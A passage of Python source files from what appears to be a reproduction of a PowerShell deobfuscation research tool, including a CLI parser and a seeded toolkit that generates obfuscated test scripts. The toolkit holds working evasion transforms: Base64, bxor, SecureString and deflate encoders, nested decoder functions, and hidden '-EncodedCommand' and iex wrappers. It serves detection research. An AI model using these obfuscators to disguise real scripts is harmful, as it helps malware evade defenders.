    p.add_argument(
        "file",
        help="event log written by --log-file (serve/fleet)",
    )
    p.add_argument(
        "--follow", "-f", action="store_true",
        help="keep reading as the file grows (Ctrl-C to stop)",
    )
    p.add_argument(
        "--level", metavar="LEVEL", default=None,
        choices=("debug", "info", "warning", "error"),
        help="only events at or above this level",
    )
    p.add_argument(
        "--logger", metavar="PREFIX", default=None,
        help="only events from loggers starting with PREFIX "
        "(e.g. service.core, policy)",
    )
    p.add_argument(
        "--trace", metavar="ID", default=None,
        help="only events whose trace_id starts with ID",
    )
    p.add_argument(
        "--tail", type=int, default=None, metavar="N",
        help="only the last N matching events (before --follow)",
    )
    p.add_argument(
        "--json", action="store_true",
        help="re-emit matching events as raw JSON lines",
    )
    p.set_defaults(func=_cmd_logs)

    p = sub.add_parser(
        "trace",
        help="render or validate an exported span JSONL file",
    )
    p.add_argument("file", help="span JSONL written by --trace-out")
    p.add_argument(
        "--check", action="store_true",
        help="validate schema version, span ids and parent linkage "
        "instead of rendering; exit 5 on problems (for CI gates)",
    )
    p.add_argument(
        "--summary", action="store_true",
        help="one line per trace (id, span count, wall time) instead "
        "of full waterfalls",
    )
    p.add_argument(
        "--id", metavar="PREFIX", default=None,
        help="only render traces whose trace_id starts with PREFIX",
    )
    p.set_defaults(func=_cmd_trace)

    p = sub.add_parser(
        "verify",
        help="deobfuscate and differentially verify semantics "
        "preservation",
    )
    p.add_argument("file", help="script path, or - for stdin")
    p.add_argument(
        "--json", action="store_true",
        help="emit the machine-readable verdict instead of text",
    )
    p.add_argument(
        "--fail-on-divergent", action="store_true",
        help="exit 4 when the verdict is divergent (for CI gates)",
    )
    p.add_argument(
        "--step-limit", type=int, default=200_000, metavar="N",
        help="sandbox step budget for each differential execution "
        "(default: 200000)",
    )
    p.add_argument(
        "--timeout", type=float, default=None, metavar="SECONDS",
        help="cooperative deadline for the deobfuscation pass",
    )
    p.add_argument("--no-rename", action="store_true")
    p.add_argument("--no-reformat", action="store_true")
    _add_policy_flag(p)
    _add_language_flag(p)
    p.set_defaults(func=_cmd_verify)

    p = sub.add_parser("score", help="score obfuscation techniques")
    p.add_argument("file")
    p.set_defaults(func=_cmd_score)

    p = sub.add_parser("keyinfo", help="extract key information")
    p.add_argument("file")
    p.set_defaults(func=_cmd_keyinfo)

    p = sub.add_parser("behavior", help="record sandboxed behaviour")
    p.add_argument("file")
    _add_policy_flag(p)
    p.set_defaults(func=_cmd_behavior)

    p = sub.add_parser(
        "report", help="full triage report (deobfuscate+score+behaviour)"
    )
    p.add_argument("file")
    p.set_defaults(func=_cmd_report)

    p = sub.add_parser("tokenize", help="dump tokens")
    p.add_argument("file")
    p.set_defaults(func=_cmd_tokenize)

    p = sub.add_parser("parse", help="dump the AST")
    p.add_argument("file")
    p.set_defaults(func=_cmd_parse)

    return parser


def main(argv=None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    return args.func(args)


if __name__ == "__main__":
    sys.exit(main())
