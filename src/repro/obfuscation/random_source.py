"""Seeded randomness helpers for reproducible corpus generation."""

import random
import string
from typing import List, Sequence, TypeVar

T = TypeVar("T")

CONSONANTS = "bcdfghjklmnpqrstvwxz"


def make_rng(seed) -> random.Random:
    return random.Random(seed)


def random_case(text: str, rng: random.Random) -> str:
    """Randomize the case of every cased character."""
    return "".join(
        ch.upper() if rng.random() < 0.5 else ch.lower() for ch in text
    )


def random_identifier(rng: random.Random, length_low=4, length_high=7) -> str:
    """A consonant-soup identifier like wild droppers use."""
    length = rng.randint(length_low, length_high)
    return "".join(rng.choice(CONSONANTS) for _ in range(length))


def random_placeholder(rng: random.Random, forbidden: str) -> str:
    """A short marker string guaranteed absent from *forbidden*."""
    alphabet = string.ascii_letters
    for _ in range(1000):
        candidate = "".join(rng.choice(alphabet) for _ in range(3))
        if candidate not in forbidden and candidate.lower() not in (
            forbidden.lower()
        ):
            return candidate
    raise RuntimeError("could not find a placeholder")  # pragma: no cover


def split_chunks(
    text: str, rng: random.Random, low: int = 2, high: int = 5
) -> List[str]:
    """Split *text* into 2..high non-empty chunks at random points."""
    if len(text) < 2:
        return [text]
    count = rng.randint(low, min(high, len(text)))
    cuts = sorted(rng.sample(range(1, len(text)), count - 1))
    pieces = []
    previous = 0
    for cut in cuts:
        pieces.append(text[previous:cut])
        previous = cut
    pieces.append(text[previous:])
    return pieces


def shuffled(items: Sequence[T], rng: random.Random) -> List[T]:
    out = list(items)
    rng.shuffle(out)
    return out
