"""Function-wrapped decoders — the paper's Section V-C hard case.

"If attackers put the recovery algorithm into function and utilize
function calls to recover the obfuscated data, our approach hardly traces
the obfuscated chain."  This module builds exactly those samples so the
``trace_functions`` extension has something to prove.  It is deliberately
NOT part of the Table II catalog: the paper's tool (and our default
configuration) does not handle it.
"""

import base64
import random

from repro.obfuscation.random_source import random_identifier

_DECODER_BODIES = [
    # base64 → string
    (
        "param($s) [Text.Encoding]::UTF8.GetString("
        "[Convert]::FromBase64String($s))"
    ),
    # reversed string
    "param($s) ($s[-1..-($s.Length)] -join '')",
    # char-shift
    (
        "param($s) (($s.ToCharArray() | ForEach-Object "
        "{ [char]([int]$_ - 1) }) -join '')"
    ),
]


def _encode_for(body_index: int, payload: str) -> str:
    if body_index == 0:
        return base64.b64encode(payload.encode("utf-8")).decode("ascii")
    if body_index == 1:
        return payload[::-1]
    return "".join(chr(ord(ch) + 1) for ch in payload)


def wrap_function_decoder(script: str, rng: random.Random) -> str:
    """Hide *script* behind a user-defined decoder function + iex."""
    body_index = rng.randrange(len(_DECODER_BODIES))
    body = _DECODER_BODIES[body_index]
    encoded = _encode_for(body_index, script)
    name = "Decode-" + random_identifier(rng).capitalize()
    blob = encoded.replace("'", "''")
    return (
        f"function {name} {{ {body} }}\n"
        f"iex ({name} '{blob}')"
    )


def nested_function_decoder(script: str, rng: random.Random) -> str:
    """Two decoder functions, one calling the other (function nesting,
    the paper's worst case)."""
    inner = "Inner-" + random_identifier(rng).capitalize()
    outer = "Outer-" + random_identifier(rng).capitalize()
    encoded = base64.b64encode(script[::-1].encode("utf-8")).decode("ascii")
    blob = encoded.replace("'", "''")
    return (
        f"function {inner} {{ param($s) "
        "[Text.Encoding]::UTF8.GetString("
        "[Convert]::FromBase64String($s)) }\n"
        f"function {outer} {{ param($s) "
        f"(({inner} $s)[-1..-(({inner} $s).Length)] -join '') }}\n"
        f"iex ({outer} '{blob}')"
    )
