"""Multi-layer wrapping: invoke an obfuscated string as code.

Sections II-B/III-B4: attackers obfuscate a whole script into a string
expression and feed it to ``Invoke-Expression`` or ``powershell
-EncodedCommand``, stacking layers arbitrarily deep.
"""

import base64
import random
from typing import Callable, List

from repro.core.recovery import quote_single


def _wrap_iex(expression: str, rng: random.Random) -> str:
    form = rng.randrange(5)
    if form == 0:
        return f"Invoke-Expression {expression}"
    if form == 1:
        return f"IEX {expression}"
    if form == 2:
        return f"{expression} | IeX"
    if form == 3:
        return f"&('i'+'ex') {expression}"
    return f".($pshome[4]+$pshome[30]+'x') {expression}"


def wrap_invoke_expression(expression: str, rng: random.Random) -> str:
    """Make the string *expression* execute as a script."""
    return _wrap_iex(expression, rng)


def encode_command(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def wrap_encoded_command(script: str, rng: random.Random) -> str:
    """``powershell -NoP -e <base64>`` with randomized flag spellings."""
    exe = rng.choice(["powershell", "PowerShell", "powershell.exe"])
    noise = rng.choice(["", " -NoP", " -NoP -NonI", " -w hidden -NoP"])
    flag = rng.choice(["-e", "-En", "-eNc", "-encodedcommand", "-EC"])
    if flag == "-EC":
        flag = "-e"
    return f"{exe}{noise} {flag} {encode_command(script)}"


def wrap_layer(
    script: str,
    rng: random.Random,
    string_encoder: Callable[[str, random.Random], str],
) -> str:
    """One full layer: encode *script* as a string, then invoke it."""
    if rng.random() < 0.35:
        return wrap_encoded_command(script, rng)
    expression = string_encoder(script, rng)
    return wrap_invoke_expression(expression, rng)


def wrap_layers(
    script: str,
    rng: random.Random,
    string_encoder: Callable[[str, random.Random], str],
    depth: int,
) -> str:
    for _ in range(depth):
        script = wrap_layer(script, rng, string_encoder)
    return script
