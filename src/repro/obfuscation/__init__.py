"""Obfuscation toolkit — the reproduction's Invoke-Obfuscation equivalent.

Implements every technique in the paper's Table II so evaluation corpora
can be generated without the (unreleased) wild dataset:

========  =====================================================
Level     Techniques
========  =====================================================
L1        ticking, whitespacing, random case, random names, alias
L2        concatenate, reorder (``-f``), replace, reverse
L3        ascii/hex/octal/binary codes, Base64, whitespace
          encoding, special characters, bxor, SecureString,
          DeflateStream
========  =====================================================

plus multi-layer wrapping (``iex`` variants and ``powershell
-EncodedCommand``).  All randomness flows through a seeded
:class:`random.Random` so corpora are reproducible.
"""

from repro.obfuscation.catalog import (
    TECHNIQUES,
    Technique,
    get_technique,
    techniques_at_level,
)

__all__ = [
    "TECHNIQUES",
    "Technique",
    "get_technique",
    "techniques_at_level",
]
