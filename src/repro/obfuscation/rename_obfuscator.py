"""Random-name obfuscation (Table II "Random Name").

Renames every user variable and function to a random consonant-soup
identifier, the signature of wild droppers the paper's renamer undoes.
"""

import random
import re
from typing import Dict, List, Tuple

from repro.pslang import ast_nodes as N
from repro.pslang.parser import try_parse
from repro.obfuscation.random_source import random_identifier
from repro.runtime.environment import is_automatic

_PROTECTED = {"_", "args", "input", "this"}


def randomize_names(script: str, rng: random.Random) -> str:
    ast, _ = try_parse(script)
    if ast is None:
        return script
    variable_map: Dict[str, str] = {}
    function_map: Dict[str, str] = {}
    used = set()

    def fresh_name() -> str:
        for _attempt in range(100):
            name = random_identifier(rng)
            if name not in used:
                used.add(name)
                return name
        raise RuntimeError("name space exhausted")  # pragma: no cover

    replacements: List[Tuple[int, int, str]] = []
    for node in ast.walk_pre_order():
        if isinstance(node, N.VariableExpressionAst):
            name = node.name
            if ":" in name or name.lower() in _PROTECTED or is_automatic(
                name
            ):
                continue
            new_name = variable_map.setdefault(name.lower(), fresh_name())
            sigil = "@" if node.splatted else "$"
            replacements.append((node.start, node.end, sigil + new_name))
        elif isinstance(node, N.FunctionDefinitionAst):
            new_name = function_map.setdefault(
                node.name.lower(), fresh_name()
            )
            text = script[node.start:node.end]
            match = re.search(re.escape(node.name), text, re.IGNORECASE)
            if match:
                replacements.append(
                    (
                        node.start + match.start(),
                        node.start + match.end(),
                        new_name,
                    )
                )
    # Second pass: call sites of renamed functions.
    for node in ast.walk_pre_order():
        if isinstance(node, N.CommandAst) and node.elements:
            head = node.elements[0]
            if (
                isinstance(head, N.StringConstantExpressionAst)
                and head.quote == ""
                and head.value.lower() in function_map
            ):
                replacements.append(
                    (head.start, head.end, function_map[head.value.lower()])
                )
    result = script
    for start, end, text in sorted(replacements, reverse=True):
        result = result[:start] + text + result[end:]
    return result
