"""L2 string-related encoders: concatenate, reorder, replace, reverse.

Each encoder takes a payload string and returns a parenthesized PowerShell
*expression* that evaluates back to the payload.
"""

import random
from typing import List

from repro.core.recovery import quote_single
from repro.obfuscation.random_source import (
    random_placeholder,
    split_chunks,
    shuffled,
)


def encode_concat(payload: str, rng: random.Random) -> str:
    """``('wri'+'te-ho'+'st hello')``"""
    chunks = split_chunks(payload, rng, low=2, high=5)
    return "(" + "+".join(quote_single(c) for c in chunks) + ")"


def encode_reorder(payload: str, rng: random.Random) -> str:
    """``("{2}{0}{1}" -f ...)`` — the format-operator shuffle.

    Chunk *k* of the payload is stored in argument slot ``positions[k]``,
    so the template reads ``{positions[0]}{positions[1]}...`` and the
    formatted result reassembles the payload in order.
    """
    chunks = split_chunks(payload, rng, low=2, high=6)
    positions = shuffled(range(len(chunks)), rng)
    template = "".join("{" + str(slot) + "}" for slot in positions)
    args = [""] * len(chunks)
    for chunk_index, slot in enumerate(positions):
        args[slot] = chunks[chunk_index]
    rendered_args = ",".join(quote_single(a) for a in args)
    return f'("{template}" -f {rendered_args})'


def encode_replace(payload: str, rng: random.Random) -> str:
    """Hide a substring behind a placeholder + ``.Replace`` call."""
    if len(payload) < 2:
        return "(" + quote_single(payload) + ")"
    # Prefer a quote-free hidden substring; quotes get the [char]39 form
    # only when they are the entire hidden piece.
    for _attempt in range(20):
        start = rng.randrange(0, len(payload) - 1)
        length = rng.randint(1, min(4, len(payload) - start))
        hidden = payload[start:start + length]
        if "'" not in hidden:
            break
    else:
        hidden = "'"
    placeholder = random_placeholder(rng, payload)
    mangled = payload.replace(hidden, placeholder)
    if hidden == "'":
        return (
            f"({quote_single(mangled)}.RePlAce({quote_single(placeholder)},"
            "[sTrInG][cHaR]39))"
        )
    return (
        f"({quote_single(mangled)}.RePlAce({quote_single(placeholder)},"
        f"{quote_single(hidden)}))"
    )


def encode_reverse(payload: str, rng: random.Random) -> str:
    """``('olleh'[-1..-5] -join '')``"""
    reversed_text = payload[::-1]
    return (
        f"({quote_single(reversed_text)}[-1..-{len(payload)}] -join '')"
    )


ENCODERS = {
    "concat": encode_concat,
    "reorder": encode_reorder,
    "replace": encode_replace,
    "reverse": encode_reverse,
}
