"""SecureString and DeflateStream obfuscation (Table II, L3)."""

import base64
import random
import zlib

from repro.runtime.securestring import encrypt_securestring


def encode_securestring(payload: str, rng: random.Random) -> str:
    """Invoke-Obfuscation's SecureString round trip, keyed AES."""
    key_length = rng.choice([16, 24, 32])
    start = rng.randint(0, 9)
    key_range = f"({start}..{start + key_length - 1})"
    key = list(range(start, start + key_length))
    blob = encrypt_securestring(payload, key)
    from repro.obfuscation.encoding_obfuscator import chunk_literal

    rendered = chunk_literal(blob, rng, always=True)
    return (
        "([Runtime.InteropServices.Marshal]::PtrToStringAuto("
        "[Runtime.InteropServices.Marshal]::SecureStringToBSTR("
        f"(ConvertTo-SecureString {rendered} -Key {key_range}))))"
    )


def encode_deflate(payload: str, rng: random.Random) -> str:
    """Base64(deflate(payload)) + the stock decompression pipeline."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    compressed = compressor.compress(payload.encode("utf-8"))
    compressed += compressor.flush()
    blob = base64.b64encode(compressed).decode("ascii")
    from repro.obfuscation.encoding_obfuscator import chunk_literal

    rendered = chunk_literal(blob, rng, always=True)
    return (
        "((New-Object IO.StreamReader((New-Object "
        "IO.Compression.DeflateStream((New-Object IO.MemoryStream("
        f",[Convert]::FromBase64String({rendered}))),"
        "[IO.Compression.CompressionMode]::Decompress)),"
        "[Text.Encoding]::UTF8)).ReadToEnd())"
    )


ENCODERS = {
    "securestring": encode_securestring,
    "deflate": encode_deflate,
}
