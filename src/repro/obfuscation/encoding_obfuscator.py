"""L3 encoders: numeric codes, Base64, bxor, special chars, whitespace.

All encoders return a parenthesized expression evaluating to the payload,
matching the shapes Invoke-Obfuscation emits (and the paper's Listing 4).
"""

import base64
import random
from typing import Callable, List

from repro.core.recovery import quote_single
from repro.obfuscation.random_source import random_case


def _join_codes(codes: List[str], converter: str, rng: random.Random) -> str:
    """``(('c1','c2'...) | %{[char](<converter>)}) -join ''`` shape."""
    listed = ",".join(quote_single(c) for c in codes)
    pipeline = (
        f"(({listed}) | ForEach-Object {{[char]({converter})}}) -join ''"
    )
    return "(" + pipeline + ")"


def encode_ascii(payload: str, rng: random.Random) -> str:
    """Decimal char codes: ``((119,114,...) | %{[char]$_}) -join ''``"""
    codes = ",".join(str(ord(ch)) for ch in payload)
    return f"((({codes}) | ForEach-Object {{[char]$_}}) -join '')"


def encode_hex(payload: str, rng: random.Random) -> str:
    codes = [format(ord(ch), "x") for ch in payload]
    return _join_codes(codes, "[convert]::ToInt32($_,16)", rng)


def encode_octal(payload: str, rng: random.Random) -> str:
    codes = [format(ord(ch), "o") for ch in payload]
    return _join_codes(codes, "[convert]::ToInt32($_,8)", rng)


def encode_binary(payload: str, rng: random.Random) -> str:
    codes = [format(ord(ch), "b") for ch in payload]
    return _join_codes(codes, "[convert]::ToInt32($_,2)", rng)


def chunk_literal(blob: str, rng: random.Random, always: bool = False) -> str:
    """Render a long literal as a concatenation of chunks.

    Invoke-Obfuscation splits encoded blobs into concatenated pieces,
    which is why L2 markers blanket wild samples (Table I).
    """
    if len(blob) < 24 or (not always and rng.random() < 0.3):
        return quote_single(blob)
    pieces: List[str] = []
    index = 0
    while index < len(blob):
        width = rng.randint(12, 40)
        pieces.append(blob[index:index + width])
        index += width
    if len(pieces) < 2:
        return quote_single(blob)
    return "(" + "+".join(quote_single(p) for p in pieces) + ")"


def encode_base64(payload: str, rng: random.Random) -> str:
    encoding = rng.choice(["UTF8", "Unicode", "ASCII"])
    codec = {"UTF8": "utf-8", "Unicode": "utf-16-le", "ASCII": "ascii"}[
        encoding
    ]
    try:
        blob = base64.b64encode(payload.encode(codec)).decode("ascii")
    except UnicodeEncodeError:
        blob = base64.b64encode(payload.encode("utf-16-le")).decode("ascii")
        encoding = "Unicode"
    rendered = chunk_literal(blob, rng, always=True)
    return (
        f"([Text.Encoding]::{encoding}.GetString("
        f"[Convert]::FromBase64String({rendered})))"
    )


def encode_bxor(payload: str, rng: random.Random) -> str:
    """The paper's Listing 4 shape: xored codes split on noise chars."""
    key = rng.randint(1, 255)
    separators = rng.sample("~}d!i@j", 3)
    codes = [str(ord(ch) ^ key) for ch in payload]
    joined = []
    for index, code in enumerate(codes):
        joined.append(code)
        if index != len(codes) - 1:
            joined.append(rng.choice(separators))
    blob = "".join(joined)
    split_ops = " ".join(
        f"-split {quote_single(sep)}" for sep in separators
    )
    body = (
        f"(('{blob}' {split_ops} | ForEach-Object "
        f"{{[char]([int]$_ -bxor '0x{key:02x}')}}) -join '')"
    )
    return "(" + body + ")"


def encode_specialchar(payload: str, rng: random.Random) -> str:
    """Chars derived from punctuation: ``[char]([int][char]'!'+N)``."""
    bases = "!#%&*+,-./:;<=>?@"
    parts = []
    for ch in payload:
        base = rng.choice(bases)
        delta = ord(ch) - ord(base)
        parts.append(f"[char]([int][char]{quote_single(base)}+{delta})")
    return "(-join (" + ",".join(parts) + "))"


def whitespace_decoder_fragment(payload: str, tail: str) -> str:
    """The whitespace decode loop with a custom final statement.

    ``tail`` receives the decoded variable name (``$wsout``), e.g.
    ``"$fmp = $wsout"`` for the Table II assignment position.  No invoker
    is included — Table II tests the *piece*, so overriding-function
    tools have nothing to intercept.
    """
    groups = "\t".join(" " * (ord(ch) - 30) for ch in payload)
    encoded = groups.replace("\t", "`t")
    return (
        '$wsenc = "' + encoded + '"\n'
        "$wsout = ''\n"
        'foreach($wsg in ($wsenc -split "`t")) '
        "{ $wsout += [char]($wsg.Length + 30) }\n"
        + tail
    )


def wrap_whitespace_script(script: str, rng: random.Random) -> str:
    """Whitespace-run encoding with a loop-based decoder (whole script).

    Each character becomes ``ord(ch) - 30`` spaces; runs are separated by
    tabs, and a ``foreach`` loop accumulates the decoded characters before
    invoking them.  The loop-carried ``+=`` is exactly the shape the
    paper's variable tracing gives up on (Section V-C, Table II's one ✗
    for Invoke-Deobfuscation) — wild samples use this multi-statement
    form, not a self-contained subexpression.
    """
    groups = "\t".join(" " * (ord(ch) - 30) for ch in script)
    encoded = groups.replace("\t", "`t")
    return (
        '$wsenc = "' + encoded + '"\n'
        "$wsout = ''\n"
        'foreach($wsg in ($wsenc -split "`t")) '
        "{ $wsout += [char]($wsg.Length + 30) }\n"
        "iex $wsout"
    )


ENCODERS: dict = {
    "encode_ascii": encode_ascii,
    "encode_hex": encode_hex,
    "encode_octal": encode_octal,
    "encode_binary": encode_binary,
    "base64": encode_base64,
    "bxor": encode_bxor,
    "specialchar": encode_specialchar,
}
