"""Technique registry: every Table II row as a named, seeded transform.

Two technique kinds exist:

- ``token`` — rewrites an existing script's tokens in place (L1);
- ``string`` — encodes a payload string into an expression that evaluates
  back to it (L2/L3); composing with an invoker makes it executable.

``positions`` (paper Section IV-C1) embeds a string-encoded piece in the
three test positions: separate line, assignment expression, part of a
pipe.
"""

import random
from dataclasses import dataclass
from typing import Callable, Dict, List, Optional

from repro.obfuscation import (
    encoding_obfuscator,
    secure_obfuscator,
    string_obfuscator,
    token_obfuscator,
)
from repro.obfuscation.rename_obfuscator import randomize_names

TokenTransform = Callable[[str, random.Random], str]
StringEncoder = Callable[[str, random.Random], str]


@dataclass(frozen=True)
class Technique:
    """One obfuscation technique from Table II."""

    name: str
    level: int            # 1, 2 or 3
    kind: str             # "token" or "string"
    type_label: str       # Table II "Type" column
    subtype_label: str    # Table II "Subtype" column
    transform: Optional[TokenTransform] = None
    encoder: Optional[StringEncoder] = None

    def apply_to_script(self, script: str, rng: random.Random) -> str:
        """Obfuscate a whole script with this technique."""
        if self.kind in ("token", "script"):
            assert self.transform is not None
            return self.transform(script, rng)
        assert self.encoder is not None
        from repro.obfuscation.layers import wrap_invoke_expression

        return wrap_invoke_expression(self.encoder(script, rng), rng)

    def encode_string(self, payload: str, rng: random.Random) -> str:
        """Encode a payload string (string-kind techniques only)."""
        if self.encoder is None:
            raise ValueError(f"{self.name} is not a string encoder")
        return self.encoder(payload, rng)


TECHNIQUES: Dict[str, Technique] = {}


def _register(technique: Technique) -> None:
    TECHNIQUES[technique.name] = technique


_register(Technique(
    name="ticking", level=1, kind="token",
    type_label="Randomization", subtype_label="Ticking",
    transform=token_obfuscator.insert_ticks,
))
_register(Technique(
    name="whitespacing", level=1, kind="token",
    type_label="Randomization", subtype_label="Whitespacing",
    transform=token_obfuscator.insert_whitespace,
))
_register(Technique(
    name="random_case", level=1, kind="token",
    type_label="Randomization", subtype_label="Random Case",
    transform=token_obfuscator.randomize_case,
))
_register(Technique(
    name="random_name", level=1, kind="token",
    type_label="Randomization", subtype_label="Random Name",
    transform=randomize_names,
))
_register(Technique(
    name="alias", level=1, kind="token",
    type_label="Alias", subtype_label="-",
    transform=token_obfuscator.apply_aliases,
))

_register(Technique(
    name="concat", level=2, kind="string",
    type_label="String-related", subtype_label="Concatenate",
    encoder=string_obfuscator.encode_concat,
))
_register(Technique(
    name="reorder", level=2, kind="string",
    type_label="String-related", subtype_label="Reorder",
    encoder=string_obfuscator.encode_reorder,
))
_register(Technique(
    name="replace", level=2, kind="string",
    type_label="String-related", subtype_label="Replace",
    encoder=string_obfuscator.encode_replace,
))
_register(Technique(
    name="reverse", level=2, kind="string",
    type_label="String-related", subtype_label="Reverse",
    encoder=string_obfuscator.encode_reverse,
))

_register(Technique(
    name="encode_binary", level=3, kind="string",
    type_label="Encoding", subtype_label="Binary/Octal",
    encoder=encoding_obfuscator.encode_binary,
))
_register(Technique(
    name="encode_octal", level=3, kind="string",
    type_label="Encoding", subtype_label="Binary/Octal",
    encoder=encoding_obfuscator.encode_octal,
))
_register(Technique(
    name="encode_ascii", level=3, kind="string",
    type_label="Encoding", subtype_label="ASCII/Hex",
    encoder=encoding_obfuscator.encode_ascii,
))
_register(Technique(
    name="encode_hex", level=3, kind="string",
    type_label="Encoding", subtype_label="ASCII/Hex",
    encoder=encoding_obfuscator.encode_hex,
))
_register(Technique(
    name="base64", level=3, kind="string",
    type_label="Encoding", subtype_label="Base64",
    encoder=encoding_obfuscator.encode_base64,
))
_register(Technique(
    name="whitespace_encoding", level=3, kind="script",
    type_label="Encoding", subtype_label="Whitespace",
    transform=encoding_obfuscator.wrap_whitespace_script,
))
_register(Technique(
    name="specialchar", level=3, kind="string",
    type_label="Encoding", subtype_label="Specialchar",
    encoder=encoding_obfuscator.encode_specialchar,
))
_register(Technique(
    name="bxor", level=3, kind="string",
    type_label="Encoding", subtype_label="Bxor",
    encoder=encoding_obfuscator.encode_bxor,
))
_register(Technique(
    name="securestring", level=3, kind="string",
    type_label="SecureString", subtype_label="-",
    encoder=secure_obfuscator.encode_securestring,
))
_register(Technique(
    name="deflate", level=3, kind="string",
    type_label="Compress", subtype_label="DeflateStream",
    encoder=secure_obfuscator.encode_deflate,
))


def get_technique(name: str) -> Technique:
    return TECHNIQUES[name]


def techniques_at_level(level: int) -> List[Technique]:
    return [t for t in TECHNIQUES.values() if t.level == level]


def string_techniques() -> List[Technique]:
    return [t for t in TECHNIQUES.values() if t.kind == "string"]


def token_techniques() -> List[Technique]:
    return [t for t in TECHNIQUES.values() if t.kind == "token"]


# The paper's three test positions (Section IV-C1).
def positions(piece: str) -> Dict[str, str]:
    """Embed an encoded piece in the paper's three positions."""
    return {
        "separate_line": piece,
        "assignment": f"$fmp = {piece}",
        "pipe": f"{piece} | out-null",
    }
