"""L1 token-level obfuscation: ticking, whitespacing, random case, alias.

These transforms rewrite an existing script's tokens without changing its
semantics, exactly the way Invoke-Obfuscation's TOKEN menu does.
"""

import random
from typing import List, Optional

from repro.pslang.aliases import ALIASES, canonical_case
from repro.pslang.tokenizer import try_tokenize
from repro.pslang.tokens import PSToken, PSTokenType
from repro.obfuscation.random_source import random_case as _random_case

# Characters a backtick must not precede in a bareword (escape meaning).
_TICK_UNSAFE = set("0abefnrtv`'\"$ ")

# Reverse alias map: canonical command (lower) -> all aliases.
_REVERSE_ALIASES = {}
for _alias, _command in ALIASES.items():
    _REVERSE_ALIASES.setdefault(_command.lower(), []).append(_alias)

_CASEABLE_TOKEN_TYPES = {
    PSTokenType.COMMAND,
    PSTokenType.COMMAND_PARAMETER,
    PSTokenType.KEYWORD,
    PSTokenType.MEMBER,
    PSTokenType.TYPE,
    PSTokenType.VARIABLE,
}

_TICKABLE_TOKEN_TYPES = {
    PSTokenType.COMMAND,
    PSTokenType.MEMBER,
}


def _rewrite_tokens(script: str, rewrite) -> str:
    """Apply ``rewrite(token) -> Optional[str]`` in reverse order."""
    tokens, _ = try_tokenize(script)
    if tokens is None:
        return script
    result = script
    for token in reversed(tokens):
        replacement = rewrite(token)
        if replacement is None or replacement == token.text:
            continue
        result = result[:token.start] + replacement + result[token.end:]
    return result


def insert_ticks(script: str, rng: random.Random) -> str:
    """Insert meaningless backticks into command and member names."""

    def rewrite(token: PSToken) -> Optional[str]:
        if token.type not in _TICKABLE_TOKEN_TYPES:
            return None
        if "`" in token.text:
            return None
        text = token.text
        positions = [
            i
            for i in range(1, len(text))
            if text[i].lower() not in _TICK_UNSAFE and text[i].isalpha()
        ]
        if not positions:
            return None
        how_many = rng.randint(1, min(3, len(positions)))
        chosen = sorted(rng.sample(positions, how_many), reverse=True)
        out = text
        for position in chosen:
            out = out[:position] + "`" + out[position:]
        return out

    return _rewrite_tokens(script, rewrite)


def randomize_case(script: str, rng: random.Random) -> str:
    """Randomize the case of case-insensitive tokens."""

    def rewrite(token: PSToken) -> Optional[str]:
        if token.type not in _CASEABLE_TOKEN_TYPES:
            return None
        if token.type is PSTokenType.VARIABLE and token.text.startswith(
            "${"
        ):
            return None  # braced names are case-preserving data-ish
        return _random_case(token.text, rng)

    return _rewrite_tokens(script, rewrite)


def insert_whitespace(script: str, rng: random.Random) -> str:
    """Widen existing whitespace gaps with random runs of spaces/tabs."""
    tokens, _ = try_tokenize(script)
    if tokens is None:
        return script
    result = script
    previous_end = None
    insertions = []
    for token in tokens:
        if previous_end is not None and token.start > previous_end:
            insertions.append(token.start)
        previous_end = token.end
    for index, position in enumerate(reversed(insertions)):
        # Always pad the first gap so the transform is never a no-op.
        if index == 0 or rng.random() < 0.6:
            pad = "".join(
                rng.choice("  \t") for _ in range(rng.randint(2, 5))
            )
            result = result[:position] + pad + result[position:]
    return result


def apply_aliases(script: str, rng: random.Random) -> str:
    """Replace canonical command names with their aliases."""

    def rewrite(token: PSToken) -> Optional[str]:
        if token.type is not PSTokenType.COMMAND:
            return None
        canonical = canonical_case(token.content) or token.content
        options = _REVERSE_ALIASES.get(canonical.lower())
        if not options:
            return None
        return rng.choice(options)

    return _rewrite_tokens(script, rewrite)
