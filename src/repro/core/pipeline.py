"""The Invoke-Deobfuscation orchestrator (paper Fig 2).

``token parse → AST recovery (with variable tracing) → multi-layer
unwrap`` runs in a loop until the script stops changing (Section III-B4's
fixpoint), then randomized identifiers are renamed and the script is
reformatted.  Every phase is individually optional so the ablation bench
(DESIGN.md A1) can switch pieces off.

Every run is instrumented through :mod:`repro.obs`: per-phase,
per-iteration wall-clock spans plus the counters each phase emits land
in the typed :class:`~repro.obs.PipelineStats` on the result.
"""

import time
from dataclasses import dataclass, field
from typing import List, Optional

from repro.frontend import Frontend, resolve_frontend
from repro.obs import PipelineStats, Tracer
from repro.obs.log import get_logger
from repro.obs.spans import SPAN_TECHNIQUES
from repro.options import DEFAULT_MAX_ITERATIONS, PipelineOptions
from repro.policy import PolicyAudit, SandboxPolicy, resolve_policy
from repro.runtime.memo import SubtreeMemo

_log = get_logger("core.pipeline")


@dataclass
class DeobfuscationResult:
    """What one deobfuscation run produced.

    Attributes
    ----------
    original
        The input script, untouched.
    script
        The deobfuscated script.  When ``valid_input`` is False this is
        the input unchanged; when ``timed_out`` is True it is the best
        intermediate reached before the deadline.
    layers
        One intermediate script per fixpoint iteration that changed the
        input — what an analyst would inspect layer by layer.
    iterations
        Fixpoint iterations executed (Section III-B4), including the
        final no-change iteration that proves convergence.
    layers_unwrapped
        ``Invoke-Expression`` / ``powershell -EncodedCommand`` layers
        removed by the multi-layer phase across all iterations.
    valid_input
        False when the input did not parse under the run's language
        front end at all; no phase ran.
    timed_out
        True when ``deadline_seconds`` elapsed before the fixpoint was
        reached; ``script`` still holds the best-effort intermediate and
        ``stats`` the partial telemetry (including the spans of every
        phase that did run).
    elapsed_seconds
        Wall-clock time spent inside :meth:`Deobfuscator.deobfuscate`.
    stats
        The run's :class:`~repro.obs.PipelineStats`: per-phase spans and
        timings, per-piece recovery outcomes with reasons, evaluator
        step counts, variable-tracing hit/miss counts, multilayer
        unwrap kinds, and the sandbox policy's denial/budget counters.
        Serialize with ``stats.to_dict()``; the legacy dict-style
        ``stats["pieces_recovered"]`` access has been retired.
    audit
        The run's :class:`~repro.policy.PolicyAudit`: per-capability
        denial counts, summed budget consumption, and — when the policy
        audits — the structured :class:`~repro.policy.AuditEvent` log.
